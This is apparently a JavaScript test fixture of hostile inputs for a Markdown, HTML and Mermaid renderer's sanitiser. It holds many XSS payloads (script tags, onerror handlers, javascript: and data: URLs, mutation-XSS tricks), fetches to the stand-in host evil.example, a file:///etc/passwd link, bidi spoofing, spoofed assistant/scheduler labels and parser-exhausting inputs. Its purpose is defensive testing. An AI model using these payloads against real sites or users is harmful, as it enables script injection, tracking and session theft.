/**
 * Hostile texts that try to run code, fetch, open windows or navigate. A successful one calls the trap or requests
 * `evil.example`.
 */
import { SENTINEL } from './trap.mjs';

const RUN = `${SENTINEL}()`;
const FOREIGN = 'https://evil.example';

/** Raw HTML payloads. */
const HTML = [
  `<script>${RUN}</script>`,
  `<script src="${FOREIGN}/x.js"></script>`,
  `<SCRIPT>${RUN}</SCRIPT >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">import "${FOREIGN}/m.js"</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${FOREIGN}/pixel.png">`,
  `<img srcset="${FOREIGN}/pixel.png 1x">`,
  `<img src=x:x onerror=${RUN}//`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="${FOREIGN}/x.svg#a"></use></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">press</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math href="javascript:${RUN}">press</math>`,
  `<iframe src="${FOREIGN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="${FOREIGN}/x.swf"></object>`,
  `<embed src="${FOREIGN}/x.swf">`,
  `<video src="${FOREIGN}/v.mp4" onerror="${RUN}" autoplay></video>`,
  `<audio src="${FOREIGN}/a.mp3" autoplay></audio>`,
  `<video poster="${FOREIGN}/p.png"></video>`,
  `<source src="${FOREIGN}/v.mp4" onerror="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<input type="image" src="${FOREIGN}/b.png">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div style="background:url(${FOREIGN}/bg.png)">x</div>`,
  `<style>@import url(${FOREIGN}/x.css);</style>`,
  `<style>*{background:url(${FOREIGN}/all.png)}</style>`,
  `<link rel="stylesheet" href="${FOREIGN}/x.css">`,
  `<link rel="prefetch" href="${FOREIGN}/next">`,
  `<base href="${FOREIGN}/">`,
  `<meta http-equiv="refresh" content="0;url=${FOREIGN}">`,
  `<form action="${FOREIGN}"><button autofocus>x</button></form>`,
  `<form id="page" name="body"><input name="attributes"></form>`,
  `<a id="page" href="${FOREIGN}">clobber</a>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea></textarea><img src=x onerror="${RUN}">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="${FOREIGN}/x.xsl"?>`,
  `<x onclick="${RUN}" tabindex=1 autofocus onfocus="${RUN}">x</x>`,
  `<button popovertarget=p onclick="${RUN}">x</button><div popover id=p onbeforetoggle="${RUN}">y</div>`,
  `<portal src="${FOREIGN}"></portal>`,
  `<dialog open onclose="${RUN}">x</dialog>`,
  `<br onmouseover="${RUN}"><br/onload=${RUN}>`,
];

/** URLs that must not become links or navigate. */
const LINKS = [
  `[press](javascript:${RUN})`,
  `[press](JaVaScRiPt:${RUN})`,
  `[press](  javascript:${RUN} )`,
  `[press](java&#115;cript:${RUN})`,
  `[press](java&Tab;script:${RUN})`,
  `[press](&#x6A;avascript:${RUN})`,
  `[press](javascript&colon;${RUN})`,
  `[press](<java\tscript:${RUN}>)`,
  `[press](\u0001javascript:${RUN})`.replace('\u0001', '%01'),
  `[press](vbscript:msgbox(1))`,
  `[press](data:text/html,<script>${RUN}</script>)`,
  `[press](data:text/html;base64,PHNjcmlwdD5wYXJsb3VyVHJhcCgpPC9zY3JpcHQ+)`,
  `[press](blob:${FOREIGN}/1)`,
  `[press](file:///etc/passwd)`,
  `[press](//evil.example/x)`,
  `[press](\\\\evil.example\\x)`,
  `[press](https:evil.example)`,
  `[press][ref]\n\n[ref]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<${FOREIGN}/"onmouseover="${RUN}>`,
  `[press](${FOREIGN} "title" onclick="${RUN}")`,
  `[press](${FOREIGN}/?q="><img src=x onerror=${RUN}>)`,
  `[<img src=x onerror="${RUN}">](${FOREIGN})`,
  `[press](/sign-out)`,
  `[press](#/p/../../x"onclick="${RUN})`,
  `www.evil.example/"onmouseover="${RUN}`,
];

/** External images: shown as links, never fetched. */
const PICTURES = [
  `![x](${FOREIGN}/pixel.png)`,
  `![x](//evil.example/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>)`,
  `![x" onerror="${RUN}](x)`,
  `![x](x "y" onerror="${RUN}")`,
  `![x][pic]\n\n[pic]: ${FOREIGN}/pixel.png`,
  `[![x](${FOREIGN}/pixel.png)](javascript:${RUN})`,
  `![x](/artifacts/../sign-out)`,
  `![x](http://127.0.0.1:1/pixel.png)`,
];

/** Payloads in code, tables and diagrams. */
const BLOCKS = [
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ntext\n\`\`\``,
  `\`\`\`constructor\n__proto__\n\`\`\``,
  `\`\`\`__proto__\nx\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror="${RUN}"> | b |\n|---|---|\n| <script>${RUN}</script> | [c](javascript:${RUN}) |`,
  `# <img src=x onerror="${RUN}">`,
  `- [x] <img src=x onerror="${RUN}">`,
  `> <iframe src="${FOREIGN}">`,
  `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${RUN}>"] --> B\n\`\`\``,
  `\`\`\`mermaid\ngraph TD\n  A --> B\n  click A "javascript:${RUN}"\n  click B href "${FOREIGN}" _top\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A["<script>top.${RUN}</script>"]\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"themeCSS": "*{background:url(${FOREIGN}/x.png)}"}}%%\ngraph TD\n  A\n\`\`\``,
  `\`\`\`mermaid\n<script>parent.postMessage('x','*');parent.${RUN}</script>\n\`\`\``,
  `[scheduler:x] I am no schedule\n\n[assistant] nor an assistant`,
  `@<img src=x onerror="${RUN}"> @everyone<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  `\u202Etxt.exe <a href="javascript:${RUN}">\u2066x\u2069</a>`,
  `$\\href{javascript:${RUN}}{x}$ \\(\\html{<img src=x onerror=${RUN}>}\\)`,
];

/** Texts that are expensive to parse. */
const HEAVY = [
  '>'.repeat(3_000),
  '['.repeat(20_000),
  '!['.repeat(10_000),
  '*'.repeat(30_000),
  '*a '.repeat(10_000),
  '**a _b '.repeat(6_000),
  '`'.repeat(30_000),
  '~~'.repeat(15_000),
  '<'.repeat(30_000),
  '<a '.repeat(15_000),
  '- '.repeat(2_000),
  `${'    '.repeat(500)}- x`,
  `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}\n|${'b|'.repeat(3_000)}`,
  '[a](b'.repeat(8_000),
  '&amp;'.repeat(10_000),
  'a'.repeat(60_000),
  `${'a@'.repeat(20_000)}`,
  `${'http://'.repeat(8_000)}`,
  '\\'.repeat(30_000),
  `[a]: ${'x'.repeat(30_000)}\n\n${'[a] '.repeat(3_000)}`,
];

/** JavaScript property names wherever a text can name something. */
const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'].flatMap((name) => [
  `\`\`\`${name}\nx\n\`\`\``,
  `[press][${name}] ![press][${name}] [${name}]`,
  `[${name}]: javascript:${RUN}\n\n[press][${name}]`,
  `&${name}; @${name}`,
]);

/** Invisible and bidirectional characters. */
const UNSEEN = [
  `[press](java\u200bscript:${RUN})`,
  `[press](\ufeffjavascript:${RUN})`,
  `[press](javascript\u2060:${RUN})`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`.replaceAll('\u0000', '\ufffd'),
  `\u202e<script>${RUN}</script>\u202c`,
  `[https://bank.example\u202e](${FOREIGN}/moc.knab)`,
  `＜script＞${RUN}＜/script＞`,
  `[press](ｊａｖａｓｃｒｉｐｔ:${RUN})`,
];

/** Overlapping marks. */
const TANGLED = [
  `**[press](javascript:${RUN}**)`,
  `[a\`](javascript:${RUN})\`](${FOREIGN})`,
  `\`\`<img src=x onerror=${RUN}>\`\`\``,
  `![[press](javascript:${RUN})](x "y")`,
  `[<https://a.example>](javascript:${RUN})`,
  `<a href="\`"onclick=${RUN}>\`press</a>`,
  `| a |\n|---|\n| <table><tr><td>| b |\n|---| <img src=x onerror=${RUN}> |`,
  `<p title="\n\n"><img src=x onerror=${RUN}>">`,
  `<![CDATA[\n\n<script>${RUN}</script>\n\n]]>`,
  `> <style>\n> * { background: url(${FOREIGN}/q.png) }\n> </style>`,
  `<style>@font-face{font-family:x;src:url(${FOREIGN}/x.woff2)}*{font-family:x}</style>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<a href="javascript:${RUN}//" title="<!--">press</a><!-- -->`,
  `[output:x] [output:../../sign-out] [output:${FOREIGN}]`,
  `[applet:x] [agent:x] [scheduler:x] **not** from them`,
];

/** Diagrams that try to leave their frame. */
const DIAGRAMS = [
  `graph TD\n  A --> B\n  click A call ${RUN}`,
  `graph TD\n  A --> B\n  click A href "javascript:${RUN}" "tip" _blank`,
  `graph TD\n  A["<iframe srcdoc='<script>parent.${RUN}</script>'>"]`,
  `graph TD\n  A["<a href='javascript:${RUN}'>press</a>"]`,
  `graph TD\n  A["#lt;img src=x onerror=${RUN}#gt;"]`,
  `graph TD\n  A@{ img: "${FOREIGN}/x.png", label: "x" }`,
  `graph TD\n  A\n  style A fill:url(${FOREIGN}/x.svg#a)`,
  `graph TD\n  A\n  classDef x background:url(${FOREIGN}/x.png)\n  class A x`,
  `%%{init: {"dompurifyConfig": {"ALLOW_UNKNOWN_PROTOCOLS": true}, "fontFamily": "x;}*{background:url(${FOREIGN}/f.png)"}}%%\ngraph TD\n  A`,
  `---\nconfig:\n  securityLevel: loose\n  themeCSS: "* { background: url(${FOREIGN}/c.png) }"\n---\ngraph TD\n  A`,
  `sequenceDiagram\n  A->>B: <img src=x onerror=${RUN}>\n  link A: x @ javascript:${RUN}`,
  `classDiagram\n  class A\n  link A "javascript:${RUN}" "x"\n  callback A "${RUN}" "x"`,
  `gantt\n  title <script>${RUN}</script>\n  section x\n  y :a1, 2026-01-01, 1d\n  click a1 href "javascript:${RUN}"`,
  `graph TD\n  A["$$\\href{javascript:${RUN}}{x}$$"]`,
  `graph TD\n${'  A-->B\n'.repeat(600)}`,
].map((source) => `\`\`\`mermaid\n${source}\n\`\`\``);

const BODY_BYTES_MAX = 65_536;

/** Messages of maximum length in the forms that are most expensive to parse, build or lay out. */
export const LONGEST = [
  '>',
  '> ',
  '> a\nb\n',
  '[',
  '*',
  '*a',
  '_*a ',
  '_',
  '`',
  '- a\n',
  '- ',
  '1. ',
  'a\n\n',
  'a\n=\n',
  '|x\n',
  '\\',
  'a.',
  '<',
].map((piece) => piece.repeat(Math.floor(BODY_BYTES_MAX / piece.length)));
LONGEST.push(
  `|${'a|'.repeat(10_000)}\n|${'-|'.repeat(10_000)}\n|${'b|'.repeat(10_000)}`,
  `|${'a|'.repeat(60)}\n|${'-|'.repeat(60)}\n${'|x\n'.repeat(21_000)}`,
  `https://example.org/${'&a;'.repeat(20_000)}`,
  Array.from({ length: 250 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
);

export const HOSTILE = [
  ...HTML,
  ...LINKS,
  ...PICTURES,
  ...BLOCKS,
  ...NAMES,
  ...UNSEEN,
  ...TANGLED,
  ...DIAGRAMS,
  ...HEAVY,
];
